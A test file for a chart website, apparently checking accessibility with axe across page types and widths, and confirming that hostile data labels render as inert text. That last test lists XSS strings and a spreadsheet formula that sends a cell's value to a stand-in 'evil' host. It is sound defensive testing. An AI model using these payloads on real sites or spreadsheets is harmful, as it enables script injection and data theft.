import AxeBuilder from '@axe-core/playwright';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchBrowser } from '../../scripts/lib/browser.ts';
import { publishedSources, SITE_DIRS } from '../site-sources.ts';

const [example, fixture] = inject('sites');
let browser: Browser;

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

/** Paths of every kind of page: home, each report, each chart page, each embed, 404; with the charts each should draw. */
async function pagesOf(site: string, siteDir: string): Promise<{ path: string; charts: number }[]> {
  const sources = publishedSources(siteDir);
  const page = await browser.newPage();
  await page.goto(`${site}/`);
  // Cards also link to a chart inside its report (`/reports/x/#chart`): the same page.
  const reports = await page.$$eval('a[href^="/reports/"]', (links) => [
    ...new Set(links.map((link) => link.getAttribute('href')!.split('#')[0]!)),
  ]);
  expect(reports.sort(), site).toEqual(sources.map((source) => `/reports/${source.slug}/`).sort());
  const paths = ['/', '/404.html', '/explore/', '/data/', '/tags/', '/methodology/', '/search/?q=engagement'].map(
    (path) => ({ path, charts: 0 }),
  );
  for (const report of reports) {
    const expected = sources.find((source) => report === `/reports/${source.slug}/`)!.charts;
    paths.push({ path: report, charts: expected });
    await page.goto(`${site}${report}`);
    // One chart page and one embed per report: every chart page is built from the same template.
    const charts = await page.$$eval('.chart__links a[href*="/charts/"]', (links) =>
      links.map((link) => link.getAttribute('href')!),
    );
    expect(charts, report).toHaveLength(expected);
    const chart = charts[0];
    if (chart)
      paths.push(
        { path: chart, charts: 1 },
        { path: chart.replace(/^\/reports\/([^/]+)\/charts\/([^/]+)\/$/, '/embed/$1/$2/'), charts: 1 },
      );
  }
  await page.close();
  // Both sites have charts, so chart pages and embeds are always among the pages checked.
  expect(paths.filter(({ path }) => path.startsWith('/embed/')).length, site).toBeGreaterThan(0);
  return paths;
}

/** A page's axe violations at a width and colour scheme, with every chart drawn first (the interactive state too). */
async function violationsOf(site: string, path: string, charts: number, width: number, dark: boolean) {
  const context = await browser.newContext({
    colorScheme: dark ? 'dark' : 'light',
    viewport: { width, height: 900 },
  });
  const page = await context.newPage();
  await page.goto(`${site}${path}`, { waitUntil: 'load' });
  if (path === '/explore/') await page.waitForSelector('[data-explore][data-explore-state="drawn"]');
  expect(await page.$$eval('figure[data-chart]', (figures) => figures.length), path).toBe(charts);
  await page.evaluate(async () => {
    for (const figure of document.querySelectorAll('figure[data-chart]')) {
      figure.scrollIntoView();
      await new Promise((done) => setTimeout(done, 50));
    }
  });
  await page.waitForFunction(() =>
    [...document.querySelectorAll<HTMLElement>('figure[data-chart]')].every(
      (figure) => figure.dataset.chartState === 'drawn',
    ),
  );
  await page.evaluate(() => window.scrollTo(0, 0));
  const results = await new AxeBuilder({ page }).analyze();
  // Code blocks on the page, and those that scroll sideways (a region a keyboard could not scroll).
  const code = await page.$$eval('main pre', (blocks) => ({
    blocks: blocks.length,
    scrolling: blocks.filter((block) => block.scrollWidth > block.clientWidth).length,
  }));
  await context.close();
  return {
    code,
    violations: results.violations.map(
      (violation) =>
        `${path}: ${violation.id} (${violation.impact}) ${violation.nodes
          .map((node) => node.target.join(' '))
          .slice(0, 3)
          .join(', ')}`,
    ),
  };
}

describe('accessibility (axe)', () => {
  for (const dark of [false, true]) {
    it(`finds no violations on any kind of page in ${dark ? 'dark' : 'light'} mode`, { timeout: 240_000 }, async () => {
      const violations: string[] = [];
      for (const [site, siteDir] of [
        [example!, SITE_DIRS[0]],
        [fixture!, SITE_DIRS[1]],
      ] as const) {
        for (const { path, charts } of await pagesOf(site, siteDir)) {
          violations.push(...(await violationsOf(site, path, charts, 1280, dark)).violations);
        }
      }
      expect(violations).toEqual([]);
    });
  }

  it('finds no violations on a 390 px phone, where long lines of code, tables and navigation run out of room', {
    timeout: 300_000,
  }, async () => {
    const violations: string[] = [];
    const scrolling: string[] = [];
    let codeBlocks = 0;
    for (const [site, siteDir] of [
      [example!, SITE_DIRS[0]],
      [fixture!, SITE_DIRS[1]],
    ] as const) {
      // Chart pages and embeds show a report's figures alone: the report pages check those at 390 px.
      const pages = (await pagesOf(site, siteDir)).filter(({ path }) => !/\/(charts|embed)\//.test(path));
      expect(pages.length, site).toBeGreaterThan(7);
      for (const { path, charts } of pages) {
        const result = await violationsOf(site, path, charts, 390, false);
        violations.push(...result.violations);
        codeBlocks += result.code.blocks;
        if (result.code.scrolling > 0) scrolling.push(path);
      }
    }
    // The fixture site's report shows a line of code too long for a phone (and each report's BibTeX).
    expect(codeBlocks).toBeGreaterThan(2);
    expect(violations).toEqual([]);
    expect(scrolling, 'pages with code blocks that scroll sideways').toEqual([]);
  });
});

describe('hostile labels in the data', () => {
  it('show as literal text and nothing runs', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(`${fixture}/reports/hostile/`);
    await page.locator('#hostile-labels').scrollIntoViewIfNeeded();
    await page.waitForFunction(
      () => document.querySelector<HTMLElement>('#hostile-labels')?.dataset.chartState === 'drawn',
    );
    // Hovering the chart shows tooltips with the labels, drawn as text on the canvas.
    const box = (await page.locator('#hostile-labels canvas').boundingBox())!;
    await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
    await page.waitForTimeout(200);
    const headers = await page.$$eval('#hostile-labels thead th', (cells) => cells.map((cell) => cell.textContent));
    const alt = await page.getAttribute('#hostile-labels canvas', 'aria-label');
    const injected = await page.evaluate(
      () => document.querySelectorAll('img[src="x"], main b, main script:not([type])').length,
    );
    const title = await page.title();
    await context.close();
    expect(dialogs).toEqual([]);
    expect(injected).toBe(0);
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile header that must stay literal text.
    const templateLike = '{{x}} and ${y} and U+2028:\u2028end';
    expect(headers).toEqual([
      'Year',
      '<img src=x onerror=alert(1)>',
      '</script><script>alert(2)</script>',
      '=HYPERLINK("http://evil/?"&A1,"Click")',
      templateLike,
    ]);
    expect(alt).toContain('<img src=x onerror=alert(1)>');
    expect(title).toBe('Labels that try to be code: <script>alert(1)</script> & "quotes" · Trendbook');
  });
});
